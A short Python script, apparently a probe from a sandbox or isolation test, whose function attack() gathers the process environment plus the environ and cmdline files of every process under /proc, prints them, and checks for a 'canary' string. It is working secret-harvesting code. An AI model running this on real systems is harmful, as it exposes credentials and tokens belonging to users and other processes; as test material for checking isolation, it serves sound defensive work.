"""Read the environment and the command lines for secrets."""
import os


def attack():
    loot = [str(dict(os.environ))]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    loot.append(file.read().decode("latin-1"))
            except OSError:
                pass
    text = "\n".join(loot)
    print(text)
    return "canary" in text
